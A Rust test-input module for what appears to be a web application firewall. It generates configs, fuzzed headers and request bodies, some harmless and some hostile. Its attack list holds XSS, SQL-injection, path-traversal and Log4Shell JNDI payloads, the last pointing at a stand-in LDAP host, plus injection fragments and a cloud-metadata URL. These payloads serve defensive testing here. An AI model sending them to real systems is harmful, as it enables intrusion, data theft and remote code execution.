//! What is fed to the module: configs, heads and bodies, harmless, attacking, arbitrary and broken.

use std::rc::Rc;

use fastrand::Rng;

use crate::pairs::{self, Pairs};

/// A config, and what it promises.
#[derive(Clone, Copy, Debug)]
pub struct Config {
    pub json: &'static str,
    /// An attack is refused.
    pub blocks: bool,
    /// A failure is an answer, not a pass.
    pub denies_failures: bool,
}

/// Everything is on.
macro_rules! everything {
    ($mode:literal, $on_failure:literal, $more:literal) => {
        concat!(
            r#"{"mode":""#, $mode, r#"","onFailure":""#, $on_failure, r#"",
            "origin":{"sha256":["9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"],"exempt":[{"exact":"/probe"}]},
            "client":{"from":["cloudfront",{"forwardedFor":{"trustedHops":1}},"peer"],"allow":["198.51.100.0/24"]},
            "limits":[{"name":"all","key":[],"rate":"1000000/s","burst":1000000},
                      {"name":"each","key":["client","cookie:session"],"rate":"1000/s","burst":1000},
                      {"name":"logins","paths":[{"prefix":"/login"}],"key":["client"],"rate":"1/m","burst":1,"mode":"detect"}],
            "limitHeaders":"draft11",
            "penalty":{"denials":1,"window":"60s","for":"10m","report":{"cluster":"reports","authority":"reports","path":"/"}},
            "handover":{"groups":[{"name":"shop","paths":[{"prefix":"/"}]}],"critical":[{"name":"pay","methods":["POST"],"paths":[{"prefix":"/pay"}]}],"cost":{"score":3,"hits":5}},
            "exclusions":[{"name":"editor","rules":["sqli-*"],"paths":[{"prefix":"/editor"}],"reason":"it sends SQL"},
                          {"name":"past","rules":["xss-*"],"paths":[{"prefix":"/old"}],"reason":"it did","until":"2020-01-01"}],
            "exempt":[{"exact":"/healthz"}],
            "telemetry":{"log":{"perSecond":50},"timeEvery":16}"#, $more, "}"
        )
    };
}

/// Everything on, and failures refused.
pub const DENY: Config = Config { json: everything!("block", "deny", ""), blocks: true, denies_failures: true };
/// Everything on, and failures let through.
pub const ALLOW: Config = Config { json: everything!("block", "allow", ""), blocks: true, denies_failures: false };

/// Configs that are accepted.
pub const GOOD: &[Config] = &[
    DENY,
    ALLOW,
    Config { json: everything!("detect", "deny", ""), blocks: false, denies_failures: true },
    Config { json: r#"{"mode":"off"}"#, blocks: false, denies_failures: true },
    Config { json: "", blocks: true, denies_failures: true },
    Config {
        json: everything!(
            "block",
            "deny",
            r#","body":{"holdHeaders":true,"inspect":4096,"oversize":"deny","encoded":"deny"}"#
        ),
        blocks: true,
        denies_failures: true,
    },
    Config {
        json: everything!("block", "allow", r#","body":{"inspect":786432},"level":4"#),
        blocks: true,
        denies_failures: false,
    },
    Config {
        json: r#"{"mode":"block","level":4,"threshold":1,"onFailure":"allow"}"#,
        blocks: true,
        denies_failures: false,
    },
];

/// What counts as a config of nobody's making: a good one with something wrong, or bytes.
pub fn arbitrary_config(random: &mut Rng) -> Rc<[u8]> {
    let good = GOOD[random.usize(..GOOD.len())].json.as_bytes();
    let mut bytes = good.to_vec();
    match random.u32(..6) {
        0 => bytes.truncate(random.usize(..=good.len())),
        1 => bytes = "[{\"a\":".repeat(random.usize(..3000)).into_bytes(),
        2 => bytes = arbitrary(random, 2000),
        3 => bytes =
            br#"{"mod":"block","limits":[{"name":"a b","rate":"0/s","burts":-1e999}],"rules":7,"body":{"inspect":-1}}"#
                .to_vec(),
        _ => {
            for _ in 0..=random.usize(..3) {
                let at = random.usize(..bytes.len().max(1));
                if let Some(byte) = bytes.get_mut(at) {
                    *byte = random.u8(..);
                }
            }
        }
    }
    bytes.into()
}

/// What a head or a body is known to be.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// Passes unless a limit or a penalty refuses it.
    Harmless,
    /// Refused where rules block.
    Attack,
    /// Nobody knows, and none of it may harm.
    Arbitrary,
}

const HARMLESS: &[&str] = &[
    "/",
    "/tickets?seats=2",
    "/shop/list?page=3&sort=price",
    "/pay/42",
    "/login",
    "/static/app.js",
    "/search?q=two+chairs",
];
const ATTACKS: &[&str] = &[
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/item?id=1%20union%20select%20password%20from%20users",
    "/../../../../etc/passwd",
    "/?x=$%7Bjndi:ldap://203.0.113.9/a%7D",
];
/// Pieces that arbitrary text is made of besides arbitrary bytes: what parsers and detectors stop at.
const PIECES: &[&str] = &[
    "%",
    "%u00",
    "%25",
    "&#x3c;",
    "&lt;",
    "\\u003c",
    "<script",
    "' or 1=1--",
    "/**/",
    "../",
    "..\\",
    "${",
    "{{",
    "$ne",
    "[",
    "]",
    "{\"a\":",
    "\"",
    "\\",
    "\u{202e}",
    "=",
    "&",
    ";",
    "+",
    "\r\n",
    "\0",
    "--b\r\n",
    "Content-Disposition: form-data; name=\"",
    "<!DOCTYPE",
    "<![CDATA[",
    "SELECT",
    "0x",
    "base64,",
    "PHNjcmlwdD4=",
    "+ADw-",
    "javascript:",
    "http://169.254.169.254/",
    "-----",
    ",",
    "|",
    "`id`",
    "union all",
    "O:8:\"stdClass\"",
    "\u{feff}",
    "%c0%af",
    "\u{17f}",
];
const NAMES: &[&str] = &[
    ":method",
    ":path",
    ":authority",
    ":scheme",
    ":protocol",
    "cookie",
    "referer",
    "user-agent",
    "content-type",
    "content-length",
    "content-encoding",
    "accept",
    "x-forwarded-for",
    "cloudfront-viewer-address",
    "x-origin-verify",
    "x-request-id",
    "traceparent",
    "upgrade",
    "transfer-encoding",
    "x-backstop-client",
    "authorization",
    "x-anything",
    "host",
    "",
];
const CONTENT_TYPES: &[&str] = &[
    "application/json",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=b",
    "text/xml",
    "text/plain",
    "application/graphql",
    "application/octet-stream",
    "application/grpc",
    "multipart/mixed; boundary=\"",
    "application/json; charset=utf-16",
    "x/y+json",
];

fn owned(name: &str, value: impl AsRef<[u8]>) -> (Vec<u8>, Vec<u8>) {
    (name.as_bytes().to_vec(), value.as_ref().to_vec())
}

/// Bytes of which nothing is known, at most so many.
pub fn arbitrary(random: &mut Rng, most: usize) -> Vec<u8> {
    let size = random.usize(..=most);
    let mut bytes = Vec::with_capacity(size);
    let only_pieces = random.bool();
    while bytes.len() < size {
        if only_pieces || random.u32(..4) == 0 {
            bytes.extend(PIECES[random.usize(..PIECES.len())].as_bytes());
        } else {
            let from = if random.bool() { 0x20..=0x7e } else { 0..=0xff };
            bytes.push(random.u8(from));
        }
    }
    bytes.truncate(size);
    bytes
}

/// A head whose kind is known.
pub fn head(kind: Kind, method: &str, random: &mut Rng) -> Pairs {
    let targets = if kind == Kind::Attack { ATTACKS } else { HARMLESS };
    let client = format!("203.0.{}.{}", random.u8(..), random.u8(..));
    let mut pairs = vec![
        owned(":method", method),
        owned(":path", targets[random.usize(..targets.len())]),
        owned(":authority", "shop.example.com"),
        owned("x-origin-verify", "test"),
        owned("x-forwarded-for", client),
        owned("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
        owned("accept", ["text/html", "*/*", "application/json", "text/plain"][random.usize(..4)]),
        owned("x-backstop-client", "192.0.2.77"),
    ];
    if random.bool() {
        pairs.push(owned("cookie", format!("session={:x}; theme=dark", random.u64(..))));
    }
    if method == "POST" {
        pairs.push(owned("content-type", "application/x-www-form-urlencoded"));
    }
    pairs
}

/// A head of which nothing is known: any names, any values, none, or very many.
pub fn arbitrary_head(random: &mut Rng) -> Pairs {
    let count = match random.u32(..200) {
        0 => random.usize(..2000),
        1 => 0,
        _ => random.usize(..12),
    };
    let most = match random.u32(..500) {
        0 => 60_000 / count.max(1),
        1..10 => 2_000 / count.max(1),
        _ => 60,
    };
    let mut pairs: Pairs = if random.u32(..4) == 0 {
        Pairs::new()
    } else {
        let method = ["GET", "POST", "CONNECT", "", "\0"][random.usize(..5)];
        vec![
            owned(":method", method),
            owned(":path", [b"/".to_vec(), arbitrary(random, 80)].concat()),
            owned("x-origin-verify", "test"),
            owned("content-type", CONTENT_TYPES[random.usize(..CONTENT_TYPES.len())]),
        ]
    };
    for _ in 0..count {
        let name = if random.u32(..8) == 0 {
            arbitrary(random, 20)
        } else {
            NAMES[random.usize(..NAMES.len())].as_bytes().to_vec()
        };
        pairs.push((name, arbitrary(random, most)));
    }
    if random.u32(..4) == 0 {
        pairs.push(owned("content-encoding", ["gzip", "deflate", "br", "gzip, gzip", ""][random.usize(..5)]));
    }
    if random.u32(..4) == 0 {
        pairs.push(owned(
            "content-length",
            ["0", "5", "100000", "18446744073709551615", "-1", "1e9"][random.usize(..6)],
        ));
    }
    pairs
}

/// A serialized map that may be broken, and what is known of what it says.
pub fn map(pairs: &Pairs, broken: bool, random: &mut Rng) -> Rc<[u8]> {
    let bytes = pairs::write(pairs);
    if !broken {
        return bytes.into();
    }
    let way = random.usize(..pairs::SPOILERS);
    pairs::spoil(bytes, way, random).into()
}

/// A body of a form.
pub fn body(kind: Kind, random: &mut Rng) -> Rc<[u8]> {
    match kind {
        Kind::Harmless => Rc::from(*b"name=Ada&seats=2&note=two+chairs+by+the+window"),
        Kind::Attack => Rc::from(*b"name=Ada&note=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
        Kind::Arbitrary => {
            let most = match random.u32(..2000) {
                0 => 900_000,
                1..50 => 20_000,
                _ => 200,
            };
            arbitrary(random, most).into()
        }
    }
}
